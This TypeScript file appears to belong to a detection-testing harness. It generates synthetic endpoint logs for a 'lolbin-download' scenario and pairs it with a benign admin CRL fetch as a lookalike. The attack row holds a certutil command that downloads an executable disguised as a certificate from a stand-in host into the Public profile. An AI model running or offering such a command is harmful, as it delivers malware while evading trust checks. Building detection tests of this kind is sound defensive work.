import { at, iso, type LibraryScenario } from '../attack-context.ts';
import { sha256Of } from '../endpoint-rows.ts';
import { addDeviceProcess } from '../process-rows.ts';
import { floorTo, HOUR, MINUTE } from '../time-grid.ts';

/** certutil fetching a payload disguised as a certificate into the public profile. */
export const lolbinDownload: LibraryScenario = {
  kind: 'lolbin-download',
  loosened: { trustedDomains: 'none' },
  attack: ({ logs, org, victim, end }) => {
    const time = floorTo(end - 9 * HOUR, MINUTE);
    addDeviceProcess(logs, org, {
      time: at(time),
      device: victim.workstation,
      fileName: 'certutil.exe',
      commandLine:
        'certutil.exe -urlcache -split -f http://files.invoice-portal.example/kb5031356.crt C:\\Users\\Public\\kb.exe',
      sha256: sha256Of('certutil.exe'),
      parent: { fileName: 'cmd.exe', commandLine: 'cmd.exe /q /c', accountName: victim.samName },
    });
    return {
      account: victim.samName,
      host: victim.workstation.fqdn,
      start: iso(time),
      end: iso(time),
      description: `certutil downloads an executable from files.invoice-portal.example on ${victim.workstation.name}.`,
    };
  },
  lookalike: ({ logs, org, bystander, end }) => {
    // An admin fetching Microsoft's root CRL with certutil while chasing a certificate error.
    addDeviceProcess(logs, org, {
      time: at(floorTo(end - 16 * HOUR, MINUTE)),
      device: bystander.workstation,
      fileName: 'certutil.exe',
      commandLine:
        'certutil.exe -urlcache -f http://crl.microsoft.com/pki/crl/products/MicRooCerAut2011_2011_03_22.crl C:\\Temp\\root.crl',
      sha256: sha256Of('certutil.exe'),
      parent: { fileName: 'cmd.exe', commandLine: 'cmd.exe', accountName: bystander.samName },
    });
    return {
      kind: 'certutil-crl-fetch',
      account: bystander.samName,
      description: "An admin downloading Microsoft's root certificate revocation list with certutil.",
    };
  },
};
